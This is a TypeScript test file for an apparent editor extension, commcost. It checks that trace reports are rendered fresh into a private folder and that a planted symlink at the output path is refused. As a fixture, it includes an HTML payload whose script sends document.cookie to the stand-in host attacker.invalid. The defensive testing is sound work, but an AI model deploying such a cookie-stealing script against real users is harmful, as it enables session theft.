/**
 * "Open trace report" (the Runs view) opens only a report commcost renders from the trace itself
 * (hardening issue, item 7): a cloned repository may commit any `.html` beside a trace — a page
 * whose script, opened from file://, runs in the user's browser — and a marker naming the trace
 * in it would be as easy to forge. The report is rendered afresh (client/trace/htmlTrace.ts
 * `freshTraceReport`, what extension/commandsActions.ts `openTraceReport` opens) into a private
 * folder, through the safe writer.
 */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { test } from 'node:test';
import * as htmlTrace from '../../client/trace/htmlTrace';
import { runTrace } from '../../client/trace/run';
import { validateTraceFile } from '../../client/traceSchema';

const root = join(__dirname, '..', '..');
const FOREIGN = '<html><script>fetch("https://attacker.invalid/?" + document.cookie)</script></html>';

/** A repository with a trace (written by commcost) and a committed foreign page beside it. */
async function repoWithTrace(): Promise<{ top: string; tracePath: string }> {
  const top = mkdtempSync(join(tmpdir(), 'commcost-trace-report-'));
  const repo = join(top, 'repo');
  mkdirSync(join(repo, '.commcost', 'traces'), { recursive: true });
  const tracePath = join(repo, '.commcost', 'traces', 'job.json');
  await runTrace({ command: ['true'], cwd: repo, out: tracePath, base: join(root, 'cli'), stdio: { stdout: () => {}, stderr: () => {} } });
  writeFileSync(join(repo, '.commcost', 'traces', 'job.html'), FOREIGN);
  return { top, tracePath };
}

test('the report opened for a trace is rendered from the trace, never the .html committed beside it', async () => {
  const { top, tracePath } = await repoWithTrace();
  const fresh = (htmlTrace as { freshTraceReport?: (t: unknown, p: string, d: string, o: object) => Promise<string> }).freshTraceReport;
  assert.equal(typeof fresh, 'function', 'a report is rendered for opening (freshTraceReport)');
  const trace = validateTraceFile(JSON.parse(readFileSync(tracePath, 'utf8')));
  const store = join(top, 'storage', 'trace-reports');
  const opened = await fresh!(trace, tracePath, store, { base: join(root, 'cli') });
  assert.equal(dirname(opened), store, 'in the private folder, not beside the trace');
  const page = readFileSync(opened, 'utf8');
  assert.ok(!page.includes('attacker.invalid'), 'nothing of the committed page');
  assert.match(page, /Content-Security-Policy" content="default-src 'none'/);
  assert.match(page, /<title>commcost trace — true<\/title>/);
  assert.equal(statSync(store).mode & 0o777, 0o700);
});

test('a link planted where the fresh report goes is not written through', async () => {
  const { top, tracePath } = await repoWithTrace();
  const fresh = (htmlTrace as { freshTraceReport?: (t: unknown, p: string, d: string, o: object) => Promise<string> }).freshTraceReport;
  assert.equal(typeof fresh, 'function');
  const trace = validateTraceFile(JSON.parse(readFileSync(tracePath, 'utf8')));
  const store = join(top, 'storage', 'trace-reports');
  const first = await fresh!(trace, tracePath, store, { base: join(root, 'cli') });
  const victim = join(top, 'victim');
  writeFileSync(victim, 'keep\n');
  rmSync(first);
  symlinkSync(victim, first);
  await assert.rejects(fresh!(trace, tracePath, store, { base: join(root, 'cli') }), /symbolic link/);
  assert.equal(readFileSync(victim, 'utf8'), 'keep\n');
});
